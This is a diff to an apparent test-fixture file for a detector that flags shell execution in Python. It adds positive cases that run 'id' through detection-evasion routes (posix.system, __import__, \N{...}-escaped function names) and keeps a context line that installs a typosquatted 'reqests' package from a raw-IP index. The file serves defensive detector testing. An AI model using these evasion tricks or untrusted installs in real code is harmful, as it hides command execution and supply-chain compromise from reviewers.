@@ -121,3 +121,20 @@ os.system.__call__("id")
 #@ pos pip run as a library, from another index
 from pip._internal.cli.main import main
 main(["install", "--index-url", "http://203.0.113.7/simple", "reqests"])
+#@ pos posix, the module os re-exports
+import posix
+posix.system("id")
+#@ pos from posix import
+from posix import system as s
+s("id")
+#@ pos posix by __import__
+__import__("posix").popen("id")
+#@ pos a function name spelled with \N{...} escapes
+import os
+getattr(os, "\N{LATIN SMALL LETTER S}\N{LATIN SMALL LETTER Y}stem")("id")
+#@ neg posix.getpid
+import posix
+print(posix.getpid())
+#@ neg a \N{...} name that is not a shell function
+import os
+print(getattr(os, "\N{LATIN SMALL LETTER G}etcwd")())
